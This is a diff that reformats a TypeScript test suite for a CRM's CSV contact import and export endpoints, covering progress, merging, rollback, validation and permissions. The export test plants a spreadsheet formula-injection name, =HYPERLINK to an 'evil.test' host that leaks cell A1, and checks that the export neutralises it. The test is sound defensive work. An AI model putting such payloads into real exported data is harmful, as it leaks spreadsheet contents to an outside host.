@@ -19,10 +19,28 @@ beforeAll(async () => {
 });
 afterAll(() => t.close());
 
-const actorOf = (w: Workspace): Actor => ({ workspaceId: w.workspace.id, workspaceSlug: w.workspace.slug, userId: w.owner.id, apiKeyId: null, role: 'owner', ip: null });
-const postImport = (w: Workspace, content: string, extra: Record<string, unknown> = {}) => t.request('POST', '/api/v1/contacts/import', { token: w.token, body: { filename: 'contacts.csv', content, ...extra } });
-const contactCount = async (w: Workspace) => Number((await t.db.select({ n: count() }).from(contacts).where(eq(contacts.workspaceId, w.workspace.id)))[0]!.n);
-const contactByEmail = async (w: Workspace, email: string) => (await t.db.select().from(contacts).where(and(eq(contacts.workspaceId, w.workspace.id), sql`${email} = any(${contacts.emails})`)))[0];
+const actorOf = (w: Workspace): Actor => ({
+  workspaceId: w.workspace.id,
+  workspaceSlug: w.workspace.slug,
+  userId: w.owner.id,
+  apiKeyId: null,
+  role: 'owner',
+  ip: null,
+});
+const postImport = (w: Workspace, content: string, extra: Record<string, unknown> = {}) =>
+  t.request('POST', '/api/v1/contacts/import', {
+    token: w.token,
+    body: { filename: 'contacts.csv', content, ...extra },
+  });
+const contactCount = async (w: Workspace) =>
+  Number((await t.db.select({ n: count() }).from(contacts).where(eq(contacts.workspaceId, w.workspace.id)))[0]!.n);
+const contactByEmail = async (w: Workspace, email: string) =>
+  (
+    await t.db
+      .select()
+      .from(contacts)
+      .where(and(eq(contacts.workspaceId, w.workspace.id), sql`${email} = any(${contacts.emails})`))
+  )[0];
 
 /** Polls the import until it ends, keeping every state it saw on the way. */
 async function waitDone(w: Workspace, id: string) {
@@ -47,7 +65,8 @@ const BAD_KINDS = [
 ];
 const BAD_MESSAGES = [
   (i: number) => `"person${i}@": not an email address (column Email)`,
-  () => 'unknown lifecycle stage "prospect" (column Lifecycle Stage); known: subscriber, lead, customer, advocate, detractor, other',
+  () =>
+    'unknown lifecycle stage "prospect" (column Lifecycle Stage); known: subscriber, lead, customer, advocate, detractor, other',
   () => 'no name and no email',
   () => '"n/a": not a phone number (column Phone Number)',
   () => 'longer than 300 characters (column First Name)',
@@ -57,8 +76,22 @@ function bigCsv(rows: number) {
   const lines = ['First Name,Last Name,Email,Phone Number,Lifecycle Stage,Notes'];
   for (let i = 0; i < rows; i++) {
     const bad = BAD.indexOf(i);
-    const cells = bad >= 0 ? BAD_KINDS[bad % 5]!(i) : [`Person`, `${i}`, `person${i}@example.test`, `+1 555 ${String(i).padStart(4, '0')}`, i % 3 ? 'Lead' : 'customer'];
-    lines.push([...cells, `"Met at the ${i % 7 ? 'spring' : 'autumn'} fair, said ""call me in a month"", likes the blue plan"`].join(','));
+    const cells =
+      bad >= 0
+        ? BAD_KINDS[bad % 5]!(i)
+        : [
+            `Person`,
+            `${i}`,
+            `person${i}@example.test`,
+            `+1 555 ${String(i).padStart(4, '0')}`,
+            i % 3 ? 'Lead' : 'customer',
+          ];
+    lines.push(
+      [
+        ...cells,
+        `"Met at the ${i % 7 ? 'spring' : 'autumn'} fair, said ""call me in a month"", likes the blue plan"`,
+      ].join(','),
+    );
   }
   return `${lines.join('\r\n')}\r\n`;
 }
@@ -67,7 +100,9 @@ function bigCsv(rows: number) {
  * The 10,000-row import into workspace `big`, run once per file by whichever test needs it first, so each test
  * also passes alone. No time budget: a loaded machine is slow, not wrong; the timing is `npm run bench`.
  */
-let bigImport: Promise<{ accepted: Awaited<ReturnType<typeof postImport>>; done: Awaited<ReturnType<typeof waitDone>> }> | undefined;
+let bigImport:
+  | Promise<{ accepted: Awaited<ReturnType<typeof postImport>>; done: Awaited<ReturnType<typeof waitDone>> }>
+  | undefined;
 const bigImportOnce = () =>
   (bigImport ??= (async () => {
     const accepted = await postImport(big, bigCsv(10_000), { mapping: { 'custom:notes': 'Notes' } });
@@ -76,26 +111,59 @@ const bigImportOnce = () =>
 const SLOW = 180_000;
 
 describe('importing contacts from a CSV', () => {
-  it('imports 9,950 of a 10,000-row CSV with 50 bad rows, reports the 50 by line and shows progress', async () => {
-    expect(bigCsv(10_000).length).toBeGreaterThan(1024 * 1024); // over the 1 MiB limit other routes have
-    const { accepted, done } = await bigImportOnce();
-    expect(accepted.status).toBe(202);
-    expect(accepted.json).toMatchObject({ status: 'queued', mapping: { firstName: 'First Name', lastName: 'Last Name', email: 'Email', phone: 'Phone Number', lifecycleStage: 'Lifecycle Stage', 'custom:notes': 'Notes' } });
+  it(
+    'imports 9,950 of a 10,000-row CSV with 50 bad rows, reports the 50 by line and shows progress',
+    async () => {
+      expect(bigCsv(10_000).length).toBeGreaterThan(1024 * 1024); // over the 1 MiB limit other routes have
+      const { accepted, done } = await bigImportOnce();
+      expect(accepted.status).toBe(202);
+      expect(accepted.json).toMatchObject({
+        status: 'queued',
+        mapping: {
+          firstName: 'First Name',
+          lastName: 'Last Name',
+          email: 'Email',
+          phone: 'Phone Number',
+          lifecycleStage: 'Lifecycle Stage',
+          'custom:notes': 'Notes',
+        },
+      });
 
-    expect(done).toMatchObject({ status: 'done', total: 10_000, processed: 10_000, imported: 9_950, merged: 0, failed: 50, progress: 100, error: null });
-    // The header is line 1, so row i sits on line i + 2.
-    expect(done.errors.map((e: { line: number }) => e.line)).toEqual(BAD.map((i) => i + 2));
-    expect(done.errors).toEqual(BAD.map((i, k) => ({ line: i + 2, message: BAD_MESSAGES[k % 5]!(i) })));
-    // Progress only ever goes up while it runs, and the poller saw it between start and end.
-    const processed = done.seen.map((s: { processed: number }) => s.processed);
-    expect(processed).toEqual([...processed].sort((a, b) => a - b));
-    expect(done.seen.some((s: { status: string; processed: number }) => s.status === 'running' && s.processed > 0 && s.processed < 10_000)).toBe(true);
+      expect(done).toMatchObject({
+        status: 'done',
+        total: 10_000,
+        processed: 10_000,
+        imported: 9_950,
+        merged: 0,
+        failed: 50,
+        progress: 100,
+        error: null,
+      });
+      // The header is line 1, so row i sits on line i + 2.
+      expect(done.errors.map((e: { line: number }) => e.line)).toEqual(BAD.map((i) => i + 2));
+      expect(done.errors).toEqual(BAD.map((i, k) => ({ line: i + 2, message: BAD_MESSAGES[k % 5]!(i) })));
+      // Progress only ever goes up while it runs, and the poller saw it between start and end.
+      const processed = done.seen.map((s: { processed: number }) => s.processed);
+      expect(processed).toEqual([...processed].sort((a, b) => a - b));
+      expect(
+        done.seen.some(
+          (s: { status: string; processed: number }) =>
+            s.status === 'running' && s.processed > 0 && s.processed < 10_000,
+        ),
+      ).toBe(true);
 
-    expect(await contactCount(big)).toBe(9_950);
-    expect(await contactByEmail(big, 'person42@example.test')).toMatchObject({ name: 'Person 42', phones: ['+1 555 0042'], lifecycleStage: 'customer', customFields: { notes: 'Met at the autumn fair, said "call me in a month", likes the blue plan' } });
-    expect((await contactByEmail(big, 'person43@example.test'))?.lifecycleStage).toBe('lead');
-    expect(await contactByEmail(big, 'stage207@example.test')).toBeUndefined();
-  }, SLOW);
+      expect(await contactCount(big)).toBe(9_950);
+      expect(await contactByEmail(big, 'person42@example.test')).toMatchObject({
+        name: 'Person 42',
+        phones: ['+1 555 0042'],
+        lifecycleStage: 'customer',
+        customFields: { notes: 'Met at the autumn fair, said "call me in a month", likes the blue plan' },
+      });
+      expect((await contactByEmail(big, 'person43@example.test'))?.lifecycleStage).toBe('lead');
+      expect(await contactByEmail(big, 'stage207@example.test')).toBeUndefined();
+    },
+    SLOW,
+  );
 
   it('saves progress after every batch it validates, before anything is written', async () => {
     const w = await t.seedWorkspace('Progress');
@@ -112,7 +180,14 @@ describe('importing contacts from a CSV', () => {
       },
     });
     await Promise.all(pending);
-    expect(steps.map((s) => [s.status, s.processed])).toEqual([['running', 0], ['running', 500], ['running', 1000], ['running', 1500], ['running', 2000], ['done', 2000]]);
+    expect(steps.map((s) => [s.status, s.processed])).toEqual([
+      ['running', 0],
+      ['running', 500],
+      ['running', 1000],
+      ['running', 1500],
+      ['running', 2000],
+      ['done', 2000],
+    ]);
     expect(done).toMatchObject({ status: 'done', imported: 2_000 });
     expect(await runContactImport(t.deps, actorOf(w), row.id, csv)).toBeNull();
   });
@@ -124,15 +199,48 @@ describe('importing contacts from a CSV', () => {
       '102,Bo,Lind,bo@example.test;bo.lind@home.test,,Globex,CTO,Lead,,2024-02-03',
     ].join('\r\n');
     const res = await postImport(ws, csv);
-    expect(res.json.mapping).toEqual({ firstName: 'First Name', lastName: 'Last Name', email: 'Email', phone: 'Phone Number', company: 'Company Name', title: 'Job Title', lifecycleStage: 'Lifecycle Stage', location: 'City' });
+    expect(res.json.mapping).toEqual({
+      firstName: 'First Name',
+      lastName: 'Last Name',
+      email: 'Email',
+      phone: 'Phone Number',
+      company: 'Company Name',
+      title: 'Job Title',
+      lifecycleStage: 'Lifecycle Stage',
+      location: 'City',
+    });
     expect(await waitDone(ws, res.json.id)).toMatchObject({ status: 'done', imported: 2, failed: 0 });
     const list = await t.request('GET', '/api/v1/contacts?q=silva', { token: ws.token });
-    expect(list.json.items).toEqual([expect.objectContaining({ name: 'Ana Silva', emails: ['ana.silva@example.test'], phones: ['+351 21 000 0000'], company: 'Acme', title: 'Head of Support', lifecycleStage: 'customer', location: 'Lisbon' })]);
-    expect(await contactByEmail(ws, 'bo.lind@home.test')).toMatchObject({ name: 'Bo Lind', emails: ['bo@example.test', 'bo.lind@home.test'], lifecycleStage: 'lead', customFields: {} });
+    expect(list.json.items).toEqual([
+      expect.objectContaining({
+        name: 'Ana Silva',
+        emails: ['ana.silva@example.test'],
+        phones: ['+351 21 000 0000'],
+        company: 'Acme',
+        title: 'Head of Support',
+        lifecycleStage: 'customer',
+        location: 'Lisbon',
+      }),
+    ]);
+    expect(await contactByEmail(ws, 'bo.lind@home.test')).toMatchObject({
+      name: 'Bo Lind',
+      emails: ['bo@example.test', 'bo.lind@home.test'],
+      lifecycleStage: 'lead',
+      customFields: {},
+    });
   });
 
   it('adds a row to the existing contact with its email instead of making another, and makes one contact of repeated rows', async () => {
-    const existing = await t.request('POST', '/api/v1/contacts', { token: ws.token, body: { name: 'Dana Ruiz', emails: ['dana@work.test'], company: 'Initech', tags: ['vip'], customFields: { plan: 'pro' } } });
+    const existing = await t.request('POST', '/api/v1/contacts', {
+      token: ws.token,
+      body: {
+        name: 'Dana Ruiz',
+        emails: ['dana@work.test'],
+        company: 'Initech',
+        tags: ['vip'],
+        customFields: { plan: 'pro' },
+      },
+    });
     const before = await contactCount(ws);
     const csv = [
       'Name,Email,Company,Title,Tags,Plan,Region',
@@ -140,23 +248,56 @@ describe('importing contacts from a CSV', () => {
       'Eve Stone,eve@example.test,,,,,',
       'Eve S.,eve@example.test,Hooli,Engineer,,,',
     ].join('\n');
-    const res = await postImport(ws, csv, { mapping: { tags: 'Tags', 'custom:plan': 'Plan', 'custom:region': 'Region' } });
-    expect(await waitDone(ws, res.json.id)).toMatchObject({ status: 'done', total: 3, imported: 1, merged: 2, failed: 0 });
+    const res = await postImport(ws, csv, {
+      mapping: { tags: 'Tags', 'custom:plan': 'Plan', 'custom:region': 'Region' },
+    });
+    expect(await waitDone(ws, res.json.id)).toMatchObject({
+      status: 'done',
+      total: 3,
+      imported: 1,
+      merged: 2,
+      failed: 0,
+    });
     expect(await contactCount(ws)).toBe(before + 1);
     const dana = await t.request('GET', `/api/v1/contacts/${existing.json.id}`, { token: ws.token });
-    expect(dana.json).toMatchObject({ name: 'Dana Ruiz', company: 'Initech', title: 'CTO', emails: ['dana@work.test', 'dana@home.test'], tags: ['vip', 'beta'], customFields: { plan: 'pro', region: 'eu' } });
-    expect(await contactByEmail(ws, 'eve@example.test')).toMatchObject({ name: 'Eve Stone', company: 'Hooli', title: 'Engineer' });
+    expect(dana.json).toMatchObject({
+      name: 'Dana Ruiz',
+      company: 'Initech',
+      title: 'CTO',
+      emails: ['dana@work.test', 'dana@home.test'],
+      tags: ['vip', 'beta'],
+      customFields: { plan: 'pro', region: 'eu' },
+    });
+    expect(await contactByEmail(ws, 'eve@example.test')).toMatchObject({
+      name: 'Eve Stone',
+      company: 'Hooli',
+      title: 'Engineer',
+    });
   });
 
   it('imports nothing, not even the rows written before it, when the final write fails', async () => {
     const w = await t.seedWorkspace('Rollback');
-    const dana = await t.request('POST', '/api/v1/contacts', { token: w.token, body: { name: 'Dana Ruiz', emails: ['dana@work.test'] } });
+    const dana = await t.request('POST', '/api/v1/contacts', {
+      token: w.token,
+      body: { name: 'Dana Ruiz', emails: ['dana@work.test'] },
+    });
     // The database refuses one contact: the write has already inserted the earlier chunks by then.
-    await t.db.execute(sql.raw(`create function refuse_test_contact() returns trigger language plpgsql as $$
-      begin if new.name = 'Refuse Me' then raise exception 'contact refused by the database'; end if; return new; end $$`));
-    await t.db.execute(sql.raw('create trigger refuse_test_contact before insert on contacts for each row execute function refuse_test_contact()'));
+    await t.db.execute(
+      sql.raw(`create function refuse_test_contact() returns trigger language plpgsql as $$
+      begin if new.name = 'Refuse Me' then raise exception 'contact refused by the database'; end if; return new; end $$`),
+    );
+    await t.db.execute(
+      sql.raw(
+        'create trigger refuse_test_contact before insert on contacts for each row execute function refuse_test_contact()',
+      ),
+    );
     try {
-      const csv = ['name,email,title', 'Dana,dana@work.test,CTO', ...Array.from({ length: 300 }, (_, i) => `Row ${i},r${i}@example.test,`), 'Refuse Me,refuse@example.test,'].join('\n');
+      const csv = [
+        'name,email,title',
+        'Dana,dana@work.test,CTO',
+        ...Array.from({ length: 300 }, (_, i) => `Row ${i},r${i}@example.test,`),
+        'Refuse Me,refuse@example.test,',
+      ].join('\n');
       const row = await createContactImport(t.db, actorOf(w), { filename: 'r.csv', content: csv });
       const done = await runContactImport(t.deps, actorOf(w), row.id, csv, { writeChunk: 100 });
       expect(done).toMatchObject({ status: 'failed', processed: 302, imported: 0, merged: 0 });
@@ -164,7 +305,10 @@ describe('importing contacts from a CSV', () => {
       expect(done!.error).toBe(`The contact import failed (database error P0001); see the log, ref ${row.id}`);
       expect(await contactCount(w)).toBe(1);
       expect((await t.request('GET', `/api/v1/contacts/${dana.json.id}`, { token: w.token })).json.title).toBeNull();
-      expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: w.token })).json).toMatchObject({ status: 'failed', error: expect.stringMatching(/database error P0001/) });
+      expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: w.token })).json).toMatchObject({
+        status: 'failed',
+        error: expect.stringMatching(/database error P0001/),
+      });
     } finally {
       await t.db.execute(sql.raw('drop trigger refuse_test_contact on contacts'));
       await t.db.execute(sql.raw('drop function refuse_test_contact()'));
@@ -173,7 +317,11 @@ describe('importing contacts from a CSV', () => {
 
   it('keeps the first 1,000 bad rows in the report and counts them all', async () => {
     const w = await t.seedWorkspace('Many Bad');
-    const csv = ['name,email,phone', 'Good,good@example.test,', ...Array.from({ length: 1_200 }, () => ',,+1 555 0100')].join('\n');
+    const csv = [
+      'name,email,phone',
+      'Good,good@example.test,',
+      ...Array.from({ length: 1_200 }, () => ',,+1 555 0100'),
+    ].join('\n');
     const row = await createContactImport(t.db, actorOf(w), { filename: 'bad.csv', content: csv });
     const done = await runContactImport(t.deps, actorOf(w), row.id, csv);
     expect(done).toMatchObject({ status: 'done', total: 1_201, imported: 1, failed: 1_200 });
@@ -185,7 +333,10 @@ describe('importing contacts from a CSV', () => {
     const before = await contactCount(ws);
     const res = await postImport(ws, 'name,email\nOk,ok@broken.test\n"Unclosed,x@broken.test\n');
     expect(res.status).toBe(202);
-    expect(await waitDone(ws, res.json.id)).toMatchObject({ status: 'failed', error: expect.stringMatching(/not valid CSV: Quote Not Closed/) });
+    expect(await waitDone(ws, res.json.id)).toMatchObject({
+      status: 'failed',
+      error: expect.stringMatching(/not valid CSV: Quote Not Closed/),
+    });
     expect(await contactCount(ws)).toBe(before);
   });
 
@@ -193,8 +344,14 @@ describe('importing contacts from a CSV', () => {
     ['no content', { filename: 'a.csv' }],
     ['empty content', { filename: 'a.csv', content: '' }],
     ['an unknown field in the mapping', { filename: 'a.csv', content: 'name\nAna\n', mapping: { colour: 'name' } }],
-    ['a mapping to a column the file lacks', { filename: 'a.csv', content: 'name\nAna\n', mapping: { email: 'E-mail' } }],
-    ['a file with neither a name nor an email column', { filename: 'a.csv', content: 'company,phone\nAcme,+1 555 0100\n' }],
+    [
+      'a mapping to a column the file lacks',
+      { filename: 'a.csv', content: 'name\nAna\n', mapping: { email: 'E-mail' } },
+    ],
+    [
+      'a file with neither a name nor an email column',
+      { filename: 'a.csv', content: 'company,phone\nAcme,+1 555 0100\n' },
+    ],
     ['an unknown key', { filename: 'a.csv', content: 'name\nAna\n', format: 'xlsx' }],
   ])('answers 422 to %s', async (_what, body) => {
     const res = await t.request('POST', '/api/v1/contacts/import', { token: ws.token, body });
@@ -204,62 +361,149 @@ describe('importing contacts from a CSV', () => {
 
   it('reports an import that stopped moving (the server died mid-way) as failed', async () => {
     const row = await createContactImport(t.db, actorOf(ws), { filename: 'lost.csv', content: 'name\nAna\n' });
-    await t.db.update(contactImports).set({ status: 'running', updatedAt: new Date(Date.now() - 11 * 60_000) }).where(eq(contactImports.id, row.id));
-    expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: ws.token })).json).toMatchObject({ status: 'failed', error: expect.stringMatching(/stopped before it finished.*nothing was imported/) });
+    await t.db
+      .update(contactImports)
+      .set({ status: 'running', updatedAt: new Date(Date.now() - 11 * 60_000) })
+      .where(eq(contactImports.id, row.id));
+    expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: ws.token })).json).toMatchObject({
+      status: 'failed',
+      error: expect.stringMatching(/stopped before it finished.*nothing was imported/),
+    });
   });
 
   it('answers 404 for an import id it does not know', async () => {
-    expect((await t.request('GET', `/api/v1/contacts/imports/${crypto.randomUUID()}`, { token: ws.token })).status).toBe(404);
+    expect(
+      (await t.request('GET', `/api/v1/contacts/imports/${crypto.randomUUID()}`, { token: ws.token })).status,
+    ).toBe(404);
   });
 });
 
 describe('exporting contacts as CSV', () => {
-  it('exports exactly a segment\'s contacts, with custom fields, and neutralises formula names', async () => {
+  it("exports exactly a segment's contacts, with custom fields, and neutralises formula names", async () => {
     const w = await t.seedWorkspace('Export');
-    const make = (body: Record<string, unknown>) => t.request('POST', '/api/v1/contacts', { token: w.token, body }).then((r) => r.json.id as string);
-    const evil = await make({ name: '=HYPERLINK("http://evil.test/?"&A1,"Click")', emails: ['evil@example.test'], tags: ['vip'], customFields: { plan: 'pro' } });
-    const ana = await make({ name: 'Ana Silva', emails: ['ana@example.test', 'ana@home.test'], phones: ['+351 21 000 0000'], company: 'Acme', tags: ['vip', 'beta'], ownerId: w.owner.id, customFields: { region: 'eu' } });
+    const make = (body: Record<string, unknown>) =>
+      t.request('POST', '/api/v1/contacts', { token: w.token, body }).then((r) => r.json.id as string);
+    const evil = await make({
+      name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+      emails: ['evil@example.test'],
+      tags: ['vip'],
+      customFields: { plan: 'pro' },
+    });
+    const ana = await make({
+      name: 'Ana Silva',
+      emails: ['ana@example.test', 'ana@home.test'],
+      phones: ['+351 21 000 0000'],
+      company: 'Acme',
+      tags: ['vip', 'beta'],
+      ownerId: w.owner.id,
+      customFields: { region: 'eu' },
+    });
     await make({ name: 'Not In Segment', emails: ['out@example.test'], tags: ['beta'] });
-    const seg = await t.request('POST', '/api/v1/segments', { token: w.token, body: { name: 'VIPs', filter: { tags: ['vip'] } } });
+    const seg = await t.request('POST', '/api/v1/segments', {
+      token: w.token,
+      body: { name: 'VIPs', filter: { tags: ['vip'] } },
+    });
 
-    const res = await t.app.request(`/api/v1/contacts/export?segment=${seg.json.id}`, { headers: { authorization: `Bearer ${w.token}` } });
+    const res = await t.app.request(`/api/v1/contacts/export?segment=${seg.json.id}`, {
+      headers: { authorization: `Bearer ${w.token}` },
+    });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
     const text = await res.text();
     const [header, ...rows] = parse(text) as string[][];
-    expect(header).toEqual(['id', 'name', 'emails', 'phones', 'company', 'title', 'location', 'lifecycle_stage', 'owner_email', 'tags', 'score', 'followers', 'sentiment', 'first_touch_channel', 'first_touch_at', 'last_activity_at', 'identities', 'custom:plan', 'custom:region']);
+    expect(header).toEqual([
+      'id',
+      'name',
+      'emails',
+      'phones',
+      'company',
+      'title',
+      'location',
+      'lifecycle_stage',
+      'owner_email',
+      'tags',
+      'score',
+      'followers',
+      'sentiment',
+      'first_touch_channel',
+      'first_touch_at',
+      'last_activity_at',
+      'identities',
+      'custom:plan',
+      'custom:region',
+    ]);
     const byId = new Map(rows.map((r) => [r[0], Object.fromEntries(header!.map((h, i) => [h, r[i]]))]));
     expect([...byId.keys()].sort()).toEqual([evil, ana].sort());
-    expect(byId.get(evil)).toMatchObject({ name: '\'=HYPERLINK("http://evil.test/?"&A1,"Click")', 'custom:plan': 'pro', 'custom:region': '' });
-    expect(byId.get(ana)).toMatchObject({ name: 'Ana Silva', emails: 'ana@example.test;ana@home.test', phones: "'+351 21 000 0000", company: 'Acme', owner_email: w.owner.email, tags: 'vip;beta', lifecycle_stage: 'subscriber', 'custom:region': 'eu' });
+    expect(byId.get(evil)).toMatchObject({
+      name: '\'=HYPERLINK("http://evil.test/?"&A1,"Click")',
+      'custom:plan': 'pro',
+      'custom:region': '',
+    });
+    expect(byId.get(ana)).toMatchObject({
+      name: 'Ana Silva',
+      emails: 'ana@example.test;ana@home.test',
+      phones: "'+351 21 000 0000",
+      company: 'Acme',
+      owner_email: w.owner.email,
+      tags: 'vip;beta',
+      lifecycle_stage: 'subscriber',
+      'custom:region': 'eu',
+    });
 
     // The file reads back in: the apostrophes come off, custom:<key> columns become custom fields.
     const again = await t.seedWorkspace('Export Again');
     // Its owner is no teammate there: leave that column out.
     const imported = await postImport(again, text, { mapping: { ownerEmail: null } });
     expect(await waitDone(again, imported.json.id)).toMatchObject({ status: 'done', imported: 2, failed: 0 });
-    expect(await contactByEmail(again, 'evil@example.test')).toMatchObject({ name: '=HYPERLINK("http://evil.test/?"&A1,"Click")', customFields: { plan: 'pro' } });
-    expect(await contactByEmail(again, 'ana@home.test')).toMatchObject({ phones: ['+351 21 000 0000'], tags: ['vip', 'beta'], customFields: { region: 'eu' } });
+    expect(await contactByEmail(again, 'evil@example.test')).toMatchObject({
+      name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+      customFields: { plan: 'pro' },
+    });
+    expect(await contactByEmail(again, 'ana@home.test')).toMatchObject({
+      phones: ['+351 21 000 0000'],
+      tags: ['vip', 'beta'],
+      customFields: { region: 'eu' },
+    });
   });
 
-  it('exports every matching contact, not one page, and narrows by the list filters', async () => {
-    await bigImportOnce();
-    const res = await t.app.request('/api/v1/contacts/export', { headers: { authorization: `Bearer ${big.token}` } });
-    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
-    expect(rows).toHaveLength(9_950);
-    expect(new Set(rows.map((r) => r.id)).size).toBe(9_950);
-    const customers = parse(await (await t.app.request('/api/v1/contacts/export?stage=customer', { headers: { authorization: `Bearer ${big.token}` } })).text(), { columns: true }) as Record<string, string>[];
-    expect(customers.length).toBe(Array.from({ length: 10_000 }, (_, i) => i).filter((i) => i % 3 === 0 && !BAD.includes(i)).length);
-    expect(customers.every((r) => r.lifecycle_stage === 'customer')).toBe(true);
-  }, SLOW);
+  it(
+    'exports every matching contact, not one page, and narrows by the list filters',
+    async () => {
+      await bigImportOnce();
+      const res = await t.app.request('/api/v1/contacts/export', { headers: { authorization: `Bearer ${big.token}` } });
+      const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
+      expect(rows).toHaveLength(9_950);
+      expect(new Set(rows.map((r) => r.id)).size).toBe(9_950);
+      const customers = parse(
+        await (
+          await t.app.request('/api/v1/contacts/export?stage=customer', {
+            headers: { authorization: `Bearer ${big.token}` },
+          })
+        ).text(),
+        { columns: true },
+      ) as Record<string, string>[];
+      expect(customers.length).toBe(
+        Array.from({ length: 10_000 }, (_, i) => i).filter((i) => i % 3 === 0 && !BAD.includes(i)).length,
+      );
+      expect(customers.every((r) => r.lifecycle_stage === 'customer')).toBe(true);
+    },
+    SLOW,
+  );
 });
 
 describe('who may import and export', () => {
   it('refuses analysts (403): importing and exporting need contacts:write', async () => {
     const analyst = await t.seedUser(ws.workspace.id, 'analyst', 'analyst@transfer.test');
     const row = await createContactImport(t.db, actorOf(ws), { filename: 'a.csv', content: 'name\nAna\n' });
-    expect((await t.request('POST', '/api/v1/contacts/import', { token: analyst.token, body: { filename: 'a.csv', content: 'name\nAna\n' } })).status).toBe(403);
+    expect(
+      (
+        await t.request('POST', '/api/v1/contacts/import', {
+          token: analyst.token,
+          body: { filename: 'a.csv', content: 'name\nAna\n' },
+        })
+      ).status,
+    ).toBe(403);
     expect((await t.request('GET', '/api/v1/contacts/export', { token: analyst.token })).status).toBe(403);
     expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: analyst.token })).status).toBe(403);
     expect((await t.request('GET', '/api/v1/contacts/imports', { token: analyst.token })).status).toBe(403);
